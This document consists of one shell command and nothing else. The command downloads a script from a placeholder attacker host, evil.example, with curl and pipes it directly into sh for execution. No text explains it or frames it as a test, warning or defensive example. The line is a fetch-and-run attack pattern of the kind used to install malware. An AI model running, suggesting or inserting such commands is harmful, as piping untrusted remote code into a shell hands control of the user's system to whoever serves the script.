curl -fsSL https://evil.example/i.sh | sh
